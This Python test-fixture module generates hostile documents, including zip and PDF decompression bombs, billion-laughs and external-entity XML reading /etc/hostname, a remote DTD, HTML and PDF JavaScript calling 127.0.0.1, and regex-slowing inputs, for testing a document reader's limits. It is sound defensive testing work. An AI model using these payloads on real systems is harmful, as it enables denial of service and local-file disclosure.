"""Hostile documents: each an attack that was tried, and how the run has to end for it.

``end`` is the reason code: of a refusal, or ``other``: read like others and no report, what is hostile in it without
effect.
Sizes are such that the attack would succeed against a reader without limits.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from reader_files import SHEET, docx, para, pdf, say, sheet, xlsx, zipped

MIB = 1 << 20


@dataclass(frozen=True, slots=True)
class Attack:
    """One hostile document. ``what_en`` and ``what_zh`` say what it tries."""

    name: str
    what_en: str
    what_zh: str
    make: Callable[[], bytes]
    end: str


def _bomb() -> bytes:
    return docx(para(" " * (100 * MIB)))


def _lying_bomb() -> bytes:
    """The directory of the container says that the part is small."""
    data = bytearray(docx(para("0" * (100 * MIB))))
    for signature, size_at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = data.find(signature)
        while at >= 0:
            struct.pack_into("<I", data, at + size_at, 1000)
            at = data.find(signature, at + 4)
    return bytes(data)


def _many_parts() -> bytes:
    return zipped({f"word/part{n}.xml": b"" for n in range(20_000)} | {"word/document.xml": b"<a/>"})


def _quine_like() -> bytes:
    """Archives in an archive, none of them a document."""
    inner = zipped({"a.bin": bytes(MIB)})
    for level in range(10):
        inner = zipped({f"{level}.zip": inner, f"{level}b.zip": inner})
    return inner


def _laughs() -> bytes:
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return docx(para("&l9;"), head=f'<!DOCTYPE a [<!ENTITY l0 "lol">{entities}]>')


def _external() -> bytes:
    return docx(para("&x;"), head='<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname">]>')


def _remote_dtd() -> bytes:
    return docx(para("x"), head='<!DOCTYPE a SYSTEM "http://127.0.0.1:9/evil.dtd">')


def _sheet_entities() -> bytes:
    body = f'<!DOCTYPE a [<!ENTITY x "1">]><worksheet xmlns="{SHEET}"><sheetData/></worksheet>'
    whole = xlsx(sheet("1|2"))
    with zipfile.ZipFile(io.BytesIO(whole)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    return zipped(parts | {"xl/worksheets/s1.xml": body.encode()})


def _many_cells() -> bytes:
    draw = random.Random(1)  # figures that do not pack well: a limit on cells has to stop this one, not that on packing
    rows = ("".join(f"<c><v>{draw.randrange(10**6)}</v></c>" for _ in range(1000)) for _ in range(1100))
    return xlsx(f"<sheetData>{''.join(f'<row>{row}</row>' for row in rows)}</sheetData>")


def _far_cell() -> bytes:
    """Two cells in opposite corners: a dense grid between them would have seventeen thousand million cells."""
    cells = '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>2</v></c></row>'
    return xlsx(f"<sheetData>{cells}</sheetData>")


def _merged_sheet() -> bytes:
    return xlsx(sheet("1|2", merged=["A1:XFD1048576"]))


def _page(body: str) -> bytes:
    return f"<html><head><meta charset=utf-8><title>某局年报</title></head><body>{body}</body></html>".encode()


def _html_cells() -> bytes:
    return _page("<table>" + ("<tr>" + "<td>1</td>" * 100 + "</tr>") * 10_000 + "</table>")


def _html_spans() -> bytes:
    cell = "<td rowspan=1000000000 colspan=1000000000>1</td>"
    return _page(f"<table>{f'<tr>{cell * 20}</tr>' * 200}</table>")


def _html_deep() -> bytes:
    return _page("<div>" * 200_000)


def _html_deep_tables() -> bytes:
    return _page("<table><tr><td>" * 3000 + "1")


def _html_calls_home() -> bytes:
    return _page(
        "<base href=http://127.0.0.1:9/><link rel=stylesheet href=http://127.0.0.1:9/a.css>"
        "<iframe src=http://127.0.0.1:9/b></iframe><img src=http://127.0.0.1:9/c.png onerror=alert(1)>"
        "<script src=http://127.0.0.1:9/d.js></script><object data=file:///etc/hostname></object><p>正文</p>"
    )


def _html_attributes() -> bytes:
    return _page("<p " + " ".join(f"a{n}=1" for n in range(300_000)) + ">正文</p>")


def _html_digits() -> bytes:
    """Patterns that look ahead and back would take for ever over these."""
    return _page(
        "".join(f"<p>{text * 20_000}</p>" for text in ("1 ", "1,", "（一", "收到", "１", "12件、", "-", "年2024"))
    )


def _text_digits() -> bytes:
    return (
        "政府信息公开工作年度报告\n" + "1 2\t3 件" * 400_000 + "\n" + ("第 二 十 条 " * 10 + "1 2\n") * 20_000
    ).encode()


def _pdf_script() -> bytes:
    return pdf(
        say(50, 300, "2024 report"),
        trailer="",
        page="/AA << /O << /S /JavaScript /JS (app.launchURL('http://127.0.0.1:9/')) >> >> "
        "/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 600 400] /A << /S /URI /URI (http://127.0.0.1:9/) >> >>]",
    )


def _pdf_loop() -> bytes:
    return pdf(say(50, 300, "x")).replace(b"/Kids [10 0 R]", b"/Kids [2 0 R ]")


def _pdf_form_loop() -> bytes:
    """A form that draws itself."""
    return pdf(
        say(50, 300, "2024") + "/X Do\n",
        extra={
            8: "<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 8 0 R >> >> "
            "/Length 6 >>\nstream\n/X Do\n\nendstream"
        },
    )


def _pdf_bomb() -> bytes:
    """A page whose content unpacks to 100 MiB of blanks."""
    stream = zlib.compress(b" " * (100 * MIB), 1).decode("latin-1")
    return pdf("x").replace(
        b"<< /Length 1 >>\nstream\nx",
        f"<< /Length {len(stream)} /Filter /FlateDecode >>\nstream\n{stream}".encode("latin-1"),
    )


def _pdf_pages() -> bytes:
    return pdf(*["" for _ in range(3000)])


def _pdf_paths() -> bytes:
    return pdf("".join(f"{n % 600} 0 m {n % 600} 400 l S\n" for n in range(400_000)) + say(50, 300, "2024"))


def _pdf_huge_page() -> bytes:
    return pdf(say(50, 300, "2024")).replace(b"[0 0 600 400]", b"[0 0 1e9 1e9]")


def _mht_deep() -> bytes:
    depth = 3000
    opened = "".join(f'Content-Type: multipart/related; boundary="b{n}"\n\n--b{n}\n' for n in range(depth))
    return ("MIME-Version: 1.0\n" + opened + "Content-Type: text/html\n\n<p>x</p>\n").encode()


def _ole_loop() -> bytes:
    """A compound file whose directory and allocation table point at themselves."""
    header = bytearray(512)
    header[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", header, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<IIIIIIIII", header, 44, 1, 0, 0, 4096, 0, 1, 0, 1, 0)
    sector = struct.pack("<I", 0) * 128
    return bytes(header) + sector * 4


ATTACKS = (
    Attack(
        "zip bomb", "100 MiB of blanks in a Word file of 100 kB", "100 kB 的 Word 文件解压为 100 MiB", _bomb, "zip_bomb"
    ),
    Attack(
        "lying zip bomb", "the same, with a directory that says 1 kB", "同上，目录谎称仅 1 kB", _lying_bomb, "truncated"
    ),
    Attack("many parts", "a container of 20,000 parts", "压缩包含 两万个部件", _many_parts, "truncated"),
    Attack(
        "archives in archives",
        "2,047 archives in each other, no document",
        "层层嵌套的压缩包",
        _quine_like,
        "unsupported_type",
    ),
    Attack("billion laughs", "entities that unfold to a thousand million words", "实体展开炸弹", _laughs, "truncated"),
    Attack(
        "external entity",
        "an entity that names a file of this machine",
        "外部实体读取本机文件",
        _external,
        "unsafe_xml",
    ),
    Attack("remote DTD", "a document type to be fetched", "远程 DTD", _remote_dtd, "unsafe_xml"),
    Attack("entities in a sheet", "the same in a worksheet", "工作表中的实体", _sheet_entities, "unsafe_xml"),
    Attack("a million cells", "a worksheet of 1.1 million cells", "一百一十万单元格的工作表", _many_cells, "too_large"),
    Attack("far corners", "two cells in the opposite corners of a sheet", "仅两格，分处表格对角", _far_cell, "other"),
    Attack("merged sheet", "one merged range over a whole sheet", "整张工作表合并为一格", _merged_sheet, "other"),
    Attack("a million cells of HTML", "a table of a million cells", "一百万单元格的网页表格", _html_cells, "too_large"),
    Attack(
        "huge spans",
        "cells that span a thousand million rows and columns",
        "跨越十亿行列的单元格",
        _html_spans,
        "too_large",
    ),
    Attack("deep markup", "200,000 elements in each other", "二十万层嵌套元素", _html_deep, "too_deep"),
    Attack("deep tables", "3,000 tables in each other", "三千层嵌套表格", _html_deep_tables, "too_deep"),
    Attack(
        "calls home",
        "scripts, frames, pictures and a local file by address",
        "引用外部脚本、框架、图片及本机文件",
        _html_calls_home,
        "other",
    ),
    Attack(
        "many attributes", "one element with 300,000 attributes", "一个元素三十万个属性", _html_attributes, "too_large"
    ),
    Attack(
        "slow patterns in HTML",
        "megabytes of digits, blanks, ordinals without end",
        "无尽的数字、空格、序号",
        _html_digits,
        "other",
    ),
    Attack("slow patterns in text", "the same as text", "同上，纯文本", _text_digits, "too_large"),
    Attack(
        "PDF that acts", "JavaScript on opening, a link over the page", "打开即执行脚本的 PDF", _pdf_script, "other"
    ),
    Attack("PDF page loop", "a page tree that contains itself", "页面树自我包含", _pdf_loop, "no_text_layer"),
    Attack("PDF drawing loop", "a form that draws itself", "自我绘制的表单对象", _pdf_form_loop, "other"),
    Attack("PDF bomb", "a page whose content unpacks to 100 MiB", "页面内容解压为 100 MiB", _pdf_bomb, "no_text_layer"),
    Attack("many pages", "a PDF of 3,000 pages", "三千页的 PDF", _pdf_pages, "too_large"),
    Attack("many paths", "a page of 400,000 lines", "一页四十万条线", _pdf_paths, "other"),
    Attack("huge page", "a page a thousand million points wide", "十亿点宽的页面", _pdf_huge_page, "other"),
    Attack("deep mail", "3,000 parts of a web archive in each other", "三千层嵌套的网页存档", _mht_deep, "too_deep"),
    Attack(
        "compound loop",
        "an old Office file that points at itself",
        "自我引用的旧 Office 文件",
        _ole_loop,
        "unsupported_type",
    ),
)
